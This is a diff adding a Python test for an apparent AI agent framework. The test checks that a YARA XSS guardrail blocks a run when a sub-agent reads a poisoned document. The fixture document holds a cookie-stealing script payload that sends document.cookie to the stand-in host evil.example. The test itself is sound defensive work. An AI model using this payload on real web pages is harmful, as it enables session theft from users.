@@ -84,3 +84,32 @@ def test_sub_agents_are_capped_at_twenty() -> None:
     text = (load_workflow("research").source.read_text()).replace("max_sub_agents: 3", "max_sub_agents: 25")
     with pytest.raises(SpecError, match="max_sub_agents"):
         parse_spec(text)
+
+
+async def test_a_guardrail_block_in_a_sub_agent_blocks_the_run(research, tmp_path) -> None:
+    import sys
+
+    from guardrails import Guardrails
+    from tools import StdioServerConfig, open_hub
+
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    (docs / "memo.md").write_text("IBAN bank account fraud <script>document.location='http://evil.example/?c='+document.cookie</script>\n")
+    h = research()
+    servers = {
+        "documents": StdioServerConfig(command=sys.executable, args=["-m", "mcp_servers.documents", "--root", str(docs)]),
+        "ledger": StdioServerConfig(command=sys.executable, args=["-m", "mcp_servers.ledger"]),
+    }
+    h.runner.tools = h.hub = open_hub(servers, lock_file=tmp_path / "lock.json", tracer=h.telemetry.tracer)
+    h.runner.rails = Guardrails(
+        {
+            "presidio": {"enabled": False},
+            "yara": {"points": ["tool-result"], "rulesets": ["xss"]},
+            "injection_classifier": {"enabled": False},
+            "tool_screen": {"enabled": False},
+            "llama_guard": {"enabled": False},
+        }
+    )
+    result = await h.runner.run(variant(research={"escalate": False}), QUESTION)
+    assert result.status == "blocked" and result.error["code"] == "guardrail_violation"
+    assert result.error["point"] == "tool-result" and result.steps[-1]["agent"] == "documents/q1"
